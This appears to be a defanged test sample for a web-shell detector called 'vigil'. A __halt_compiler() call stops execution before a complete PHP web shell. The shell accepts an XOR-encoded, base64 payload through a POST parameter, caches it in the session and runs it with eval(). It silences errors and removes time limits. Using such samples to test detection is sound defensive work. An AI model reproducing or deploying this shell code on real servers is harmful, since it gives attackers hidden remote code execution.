<?php
/* DEFANGED vigil test sample (see README). __halt_compiler() stops PHP here: nothing below runs. */
__halt_compiler();
<?php
@session_start();
@set_time_limit(0);
@error_reporting(0);
function encode($D, $K) {
    for ($i = 0; $i < strlen($D); $i++) {
        $D[$i] = $D[$i] ^ $K[$i + 1 & 15];
    }
    return $D;
}
$pass = 'pass';
$payloadName = 'payload';
$key = '3c6e0b8a9c15224a';
if (isset($_POST[$pass])) {
    $data = encode(base64_decode($_POST[$pass]), $key);
    if (isset($_SESSION[$payloadName])) {
        $payload = encode($_SESSION[$payloadName], $key);
        eval($payload);
    } else {
        $_SESSION[$payloadName] = $data;
    }
}
